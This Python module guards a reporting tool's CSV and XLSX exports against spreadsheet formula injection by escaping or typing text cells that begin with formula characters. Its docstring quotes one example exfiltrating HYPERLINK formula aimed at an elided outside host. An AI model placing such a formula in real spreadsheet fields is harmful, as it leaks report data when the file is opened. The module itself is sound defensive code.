"""Text cells a spreadsheet must show, never run: the guard against formula injection.

Unit codes and names, procedure and field names reach the reports from outside (``sohoa
units set``, the admin's unit page, an imported register). A spreadsheet treats a cell that
starts with ``= + - @``, a tab or a carriage return as a formula (OWASP "CSV Injection"), so
``=HYPERLINK("http://…?x="&A1,"x")`` as a unit name would send the sheet's data away when
an office opens its monthly report. Every spreadsheet writer (:func:`reports.render.to_csv`,
:mod:`reports.xlsx`) passes its text through this module, so the rule lives in one place:

- CSV has no types, so such a field gets a leading ``'``, which Excel and LibreOffice read
  as "this is text" (OWASP's advice); ``- Phòng Tư pháp`` is written ``'- Phòng Tư pháp``.
- XLSX has types: the text is written unchanged as a string cell (openpyxl would otherwise
  make a formula of anything starting with ``=``) with Excel's ``quotePrefix`` style, which
  keeps it text even after someone edits the cell.

Numbers are left alone: only text is neutralised, so a count or a rate stays a number.
"""

from __future__ import annotations

import re
from typing import TYPE_CHECKING

if TYPE_CHECKING:
    from openpyxl.cell.cell import Cell

FORMULA_STARTS: tuple[str, ...] = ("=", "+", "-", "@", "\t", "\r", "\0")
"""First characters that make a spreadsheet evaluate a cell: OWASP's six, and NUL, which
ASVS 5.0 (1.2.10) adds."""

NOT_IN_XML = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")
"""Control characters XML 1.0, hence XLSX, cannot hold (openpyxl's own rule, restated here so
that the CSV path does not import openpyxl)."""

REPLACEMENT = "\ufffd"
"""Stands in for such a character: openpyxl would refuse the whole workbook otherwise."""


def starts_formula(text: object) -> bool:
    """Whether ``text`` is a string a spreadsheet would read as a formula.

    The one rule behind :func:`csv_text` and :func:`put_text`; anything not a string
    (a count, a rate, ``None``) is never a formula here.
    """
    return isinstance(text, str) and text.startswith(FORMULA_STARTS)


def csv_text(text: str) -> str:
    """A CSV field that a spreadsheet shows as text: ``'`` before a formula-like start."""
    return "'" + text if starts_formula(text) else text


def put_text(cell: Cell, text: str | None) -> None:
    """Write ``text`` into an openpyxl ``cell`` as a string, whatever it starts with.

    The text is kept as it is (no added ``'``); its type is forced to a string, since
    openpyxl guesses a formula from ``=…`` and an error value from ``#N/A`` or ``#REF!``,
    and a formula-like start gets ``quotePrefix``. Control characters that XLSX cannot store
    become U+FFFD, so one odd name in the register cannot stop the whole export.
    """
    if text is None:
        cell.value = None
        return
    cell.value = NOT_IN_XML.sub(REPLACEMENT, text)
    cell.data_type = "s"
    if starts_formula(text):
        cell.quotePrefix = True
